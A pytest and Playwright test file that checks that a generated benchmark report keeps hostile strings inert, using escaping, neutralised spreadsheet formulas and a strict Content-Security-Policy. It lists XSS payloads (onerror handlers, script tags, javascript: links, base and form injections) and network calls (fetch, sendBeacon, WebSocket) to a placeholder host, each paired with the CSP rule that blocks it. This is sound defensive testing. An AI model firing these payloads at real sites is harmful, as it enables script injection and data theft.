"""What a store's words can do in a page: nothing. What anything in it could do: nothing either."""

from __future__ import annotations

import re
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from analysis.history import main as history
from results.text import printable
from tests.browser.chromium import DRAWN, HEIGHT, NEEDS_CHROMIUM, Watched, downloaded, until, write
from tests.hostile import HOSTILE, PWNED
from tests.synthetic_store import START, add_run
from tests.test_history import NOISE

pytestmark = NEEDS_CHROMIUM
NIGHTS = 14


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile") / "data"
    for text in HOSTILE:
        everywhere = dict.fromkeys(("model", "strategy", "dataset", "label", "experiment", "device_name"), text)
        add_run(root, [0.1], **everywhere, provenance={"hostname": text}, hostnames=[text], samples=5)
        add_run(root, status="failed", error=text, **everywhere, failed_phase=text)
    return root


@pytest.fixture(scope="module")
def report(store: Path) -> Path:
    return write(store)


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context(offline=True, viewport={"width": 1200, "height": HEIGHT})
    yield context.new_page()
    context.close()


def draw_all(page: Page) -> int:
    page.evaluate("figures.forEach(draw)")
    count: int = page.evaluate("figures.length")
    until(page, f"{DRAWN} == {count}")
    return count


def assert_inert(page: Page, watched: Watched) -> None:
    """Nothing of the words became an element, ran, or was asked for."""
    assert page.evaluate("document.querySelectorAll('img, iframe, body svg[onload], .plot b').length") == 0
    assert page.locator(".plot a[href], .plot a[*|href]").count() == 0
    assert page.evaluate("window.__pwned") is None
    assert watched.problems == []


def test_hostile_words_are_shown_and_do_nothing(page: Page, report: Path) -> None:
    watched = Watched(page)
    page.goto(report.as_uri())
    assert draw_all(page) >= 6 * len(HOSTILE)
    assert page.locator(".plot .legendtext, .plot .xtick text").filter(has_text="<img src=x").count() > 0
    _, *rows = downloaded(page, page.locator("button[data-table]"))
    assert any(row[1].startswith("'=HYPERLINK(") for row in rows)
    assert any(row[1] == "'-rf" for row in rows)
    assert not any(cell.startswith(("=", "@")) for row in rows for cell in row)
    shown = page.evaluate("[...document.querySelectorAll('td')].map(cell => cell.textContent)")
    assert {printable(text) for text in HOSTILE} <= {*shown}
    assert_inert(page, watched)


def test_hostile_words_do_nothing_in_a_history(page: Page, tmp_path: Path) -> None:
    for text in HOSTILE:
        # The night on which the one that is an image became slower, so that history has a change to tell of.
        slower = 8 if text.startswith("<img") else NIGHTS
        for night in range(NIGHTS if slower < NIGHTS else 2):
            words = dict.fromkeys(("model", "strategy", "dataset", "device_name"), text)
            known = {"hostname": text, "tensorflow_version": "1" if night < slower else text}
            at = {"started_at": START + timedelta(days=night), "experiment": f"{text} {night}"}
            step = NOISE[night % len(NOISE)] * (0.1 if night < slower else 0.2)
            add_run(tmp_path / "data", [step], **words, **at, provenance=known)
    assert history([f"--results-dir={tmp_path / 'data'}", f"--output={tmp_path}"]) == 1
    watched = Watched(page)
    page.goto((tmp_path / "history.html").as_uri())
    assert draw_all(page) == len(HOSTILE)
    changes = page.locator("li").all_inner_texts()
    assert any("tensorflow_version: 1 -> <img src=x" in line for line in changes)
    assert_inert(page, watched)


BREAKINS = {
    "an event handler": (f"""<img src="data:," onerror="{PWNED}">""", "script-src-attr"),
    "a script": (f"<script>{PWNED}</script>", "script-src-elem"),
    "a script from elsewhere": ("<script src='https://example.invalid/x.js'></script>", "script-src-elem"),
    "a link that runs": (f"<a href='javascript:{PWNED}'></a>", "script-src-elem"),
    "a picture from elsewhere": ("<img src='https://example.invalid/x.png'>", "img-src"),
    "a style": ("<style>body { display: none }</style>", "style-src-elem"),
    "a style attribute": ("<p style='position: fixed'></p>", "style-src-attr"),
    "a style from elsewhere": ("<link rel=stylesheet href='https://example.invalid/x.css'>", "style-src-elem"),
    "a frame": ("<iframe src='https://example.invalid/'></iframe>", "frame-src"),
    "a plug-in": ("<object data='https://example.invalid/x'></object>", "object-src"),
    "a base for links": ("<base href='https://example.invalid/'>", "base-uri"),
    "a form": ("<form action='https://example.invalid/'></form>", "form-action"),
}
"""What an attacker who found a hole would put through it -> the rule that stops it."""

INJECT = """html => new Promise(resolve => {
    addEventListener("securitypolicyviolation", event => resolve(event.effectiveDirective), {once: true});
    const parsed = document.createRange().createContextualFragment(html);  // its scripts run, unlike innerHTML's
    const [element] = parsed.children;
    (element.tagName === "BASE" ? document.head : document.body).append(parsed);
    if (element.click && element.tagName === "A") element.click();
    if (element.submit && element.tagName === "FORM") element.submit();
    setTimeout(() => resolve(null), 5000);
})"""


CALLS = {
    "fetch('https://example.invalid/')": "connect-src",
    "navigator.sendBeacon('https://example.invalid/')": "connect-src",
    "new WebSocket('wss://example.invalid/')": "connect-src",
    "new Worker(URL.createObjectURL(new Blob(['1'])))": "worker-src",
    f"setTimeout('{PWNED}')": "script-src",
}
RUN = """new Promise(resolve => {
    addEventListener("securitypolicyviolation", event => resolve(event.effectiveDirective), {once: true});
    Promise.resolve().then(() => %s).catch(() => null);
    setTimeout(() => resolve(null), 5000);
})"""


def test_whatever_got_into_a_page_could_do_nothing(page: Page, report: Path) -> None:
    page.goto(report.as_uri())
    assert {name: page.evaluate(INJECT, html) for name, (html, _) in BREAKINS.items()} == {
        name: rule for name, (_, rule) in BREAKINS.items()
    }
    assert {code: page.evaluate(RUN % code) for code in CALLS} == CALLS
    assert page.evaluate("window.__pwned") is None


def test_the_policy_names_hashes_and_nothing_looser(report: Path) -> None:
    (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]*)"', report.read_text())
    rules = {name: words for name, *words in (rule.split() for rule in policy.split(";"))}
    hashes = {name: [word for word in words if word.startswith("'sha256-")] for name, words in rules.items()}
    assert {name: len(found) for name, found in hashes.items() if found} == {"script-src": 2, "style-src": 3}
    assert {name: [word for word in words if word not in hashes[name]] for name, words in rules.items()} == {
        "default-src": ["'none'"],
        "script-src": [],
        "style-src": ["'unsafe-hashes'"],  # hashes count for style attributes, too; of all else it allows nothing
        "img-src": ["data:", "blob:"],  # heatmaps; the button that saves a plot
        "base-uri": ["'none'"],
        "form-action": ["'none'"],
    }
